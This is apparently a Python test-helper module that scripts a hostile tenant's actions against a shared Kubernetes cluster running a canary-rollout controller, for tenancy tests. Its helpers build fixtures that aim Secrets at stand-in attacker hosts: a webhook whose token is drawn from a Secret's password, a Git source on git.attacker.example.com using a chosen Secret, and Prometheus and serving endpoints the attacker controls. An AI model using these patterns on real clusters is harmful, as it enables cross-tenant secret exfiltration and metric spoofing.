"""What the owner of one namespace can do to a cluster that is shared, act by act, and the objects that this takes.

Used by `worst_acts.py` and `random_acts.py`, which are what the tests of tenancy do. An act writes to the API server
within the namespace, or decides what a server of the attacker's own answers, or what a pod of the attacker's shows
Prometheus. Metadata is of the types that every API server insists on; specs, statuses and answers are of any.
"""

import asyncio
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

from canary.errors import ExternalError
from controlplane.kubernetes.api import Object, Resource
from controlplane.kubernetes.resources import (
    GIT_SOURCE,
    MODEL_CANARY,
)
from tests.simulation.outside import Reply, Sent
from tests.simulation.shared_cluster import HOSTILE, SharedCluster, a_plan

HOOK = "hooks.attacker.example.com"
MODELS = [f"10.0.1.{number}" for number in range(1, 20)]
"""Addresses of the attacker's servers."""
SHOWN = 150
"""Letters of an act that a failing example shows: some of the values are of many thousand."""
NONSENSE = (RecursionError, TypeError, AttributeError, ValueError, KeyError)
"""How the server in memory refuses what no schema refused before."""
NOW = 1767225610
"""Ten seconds after a run has begun (seconds since the epoch)."""
GATES = ["error_rate <= 5%", "ttft p95 <= 1s"]


class _Short:
    """Shows itself in a failing example within bounds."""

    def __repr__(self) -> str:
        """The fields, cut off."""
        try:
            words = ", ".join(repr(value)[:SHOWN] for value in vars(self).values())
        except RecursionError:
            words = "of too many levels to be shown"
        return f"{type(self).__name__}({words})"[: 2 * SHOWN]

    def _repr_pretty_(self, printer: Any, _cycle: bool) -> None:
        """Hypothesis would show every field in full."""
        printer.text(repr(self))


@dataclass(frozen=True, repr=False)
class Write(_Short):
    """Make an object be like this."""

    resource: Resource
    object: Object

    async def do(self, cluster: SharedCluster) -> None:
        """Write it."""
        with suppress(ExternalError, *NONSENSE):
            try:
                await cluster.kube.acting_as("kubectl").apply(self.resource, self.object)
            except (
                RecursionError
            ):  # who owns which field is a matter of the server in memory alone: real ones count to it
                cluster.kube.seed(self.resource, self.object)


@dataclass(frozen=True, repr=False)
class Patch(_Short):
    """Merge this into an object, or into its status."""

    resource: Resource
    name: str
    patch: Object
    subresource: str = ""

    async def do(self, cluster: SharedCluster) -> None:
        """Patch it."""
        kube = cluster.kube.acting_as("kubectl")
        with suppress(ExternalError, *NONSENSE):
            await kube.patch(self.resource, HOSTILE, self.name, self.patch, subresource=self.subresource)


@dataclass(frozen=True, repr=False)
class Delete(_Short):
    """Delete an object."""

    resource: Resource
    name: str

    async def do(self, cluster: SharedCluster) -> None:
        """Delete it."""
        with suppress(ExternalError):
            await cluster.kube.acting_as("kubectl").delete(self.resource, HOSTILE, self.name)


@dataclass(frozen=True, repr=False)
class Plant(_Short):
    """Let a pod of the attacker's show these series from now on. Prometheus says which pod it was."""

    series: Sequence[Object]
    rollout: str = "evil"

    async def do(self, cluster: SharedCluster) -> None:
        """Show them."""
        pod = f"{self.rollout}-v2-predictor-x-1"
        target = {"namespace": HOSTILE, "pod": pod, "job": "pods"}
        cluster.scraped.planted[pod] = [{**each, "metric": {**each["metric"], **target}} for each in self.series]


@dataclass(frozen=True, repr=False)
class Serve(_Short):
    """Let a server of the attacker's answer so from now on."""

    host: str
    reply: Reply

    async def do(self, cluster: SharedCluster) -> None:
        """Answer so."""

        def answer(_sent: Sent) -> Reply:
            return self.reply

        cluster.outside.servers |= dict.fromkeys(MODELS if self.host == "models" else [self.host], answer)


@dataclass(frozen=True, repr=False)
class Slow(_Short):
    """Let queries that are written into gates take so long (seconds) in the shared Prometheus."""

    seconds: float

    async def do(self, cluster: SharedCluster) -> None:
        """Take so long."""
        cluster.scraped.slow = self.seconds


Act = Write | Patch | Delete | Plant | Serve | Slow


async def act(cluster: SharedCluster, acts: Sequence[Act], *, every: float = 0.25, after: float = 2.0) -> None:
    """One act after the other, from so many seconds on: what the others have by then is theirs."""
    await asyncio.sleep(after)
    for each in acts:
        await each.do(cluster)
        await asyncio.sleep(every)


def named(resource: Resource, name: str, **more: Any) -> Object:
    """An object of the attacker's."""
    meta = {"name": name, "namespace": HOSTILE, **more.pop("metadata", {})}
    return {"apiVersion": resource.api_version, "kind": resource.kind, "metadata": meta, **more}


def evil(name: str = "evil", *, kserve: Object | None = None, **spec: Any) -> Object:
    """A plan of the attacker's that can be carried out, with some fields as wanted."""
    plan = a_plan(name, GATES, **{"alerts": [], **spec})["spec"]
    plan["platform"]["kserve"] |= {"hostname": f"{name}.attacker.example.com", **(kserve or {})}
    return named(MODEL_CANARY, name, spec=plan)


def asks(query: str) -> Object:
    """A gate with a query of its own."""
    return {"metric": "kpi/x", "better": "lower", "query": query, "window": "5s", "max": 1}


def hook(secret: str) -> Object:
    """A web hook of the attacker's that is to be sent what is in this Secret."""
    return {
        "webhook": {
            "urlFrom": {"secret": "own", "key": "url"},
            "tokenFrom": {"secret": secret, "key": "password"},
        }
    }


def nested(depth: int, *, lists: bool = False) -> Any:
    """A value of so many levels."""
    value: Any = 1
    for _ in range(depth):
        value = [value] if lists else {"a": value}
    return value


def prometheus_of(name: str) -> str:
    """The host of a rollout's own Prometheus."""
    return f"{name}.prometheus.attacker.example.com"


def with_own(name: str, reply: Reply) -> list[Act]:
    """A rollout whose numbers come from a Prometheus of the attacker's."""
    host = prometheus_of(name)
    return [Serve(host, reply), Write(MODEL_CANARY, evil(name, kserve={"prometheus": f"http://{host}:9090"}))]


def scraped(name: str, *series: Object) -> list[Act]:
    """A rollout whose pods show this."""
    at = [{"values": [[NOW + second, str(second)] for second in range(20)], **each} for each in series]
    return [Write(MODEL_CANARY, evil(name)), Plant(at, name)]


def matrix(*metrics: str) -> str:
    """An answer of Prometheus with these labels, as text."""
    series = ",".join(f'{{"metric":{each},"values":[[{NOW},"1"]]}}' for each in metrics)
    return f'{{"status":"success","data":{{"resultType":"matrix","result":[{series}]}}}}'


def annotated(name: str, key: str, value: str) -> Act:
    """An annotation on a plan."""
    return Patch(MODEL_CANARY, name, {"metadata": {"annotations": {key: value}}})


def source(name: str, secret: str, **spec: Any) -> Act:
    """A repository to be followed, with this Secret."""
    wanted = {"url": "https://git.attacker.example.com/x.git", "secretRef": {"name": secret}, **spec}
    return Write(GIT_SOURCE, named(GIT_SOURCE, name, spec=wanted))
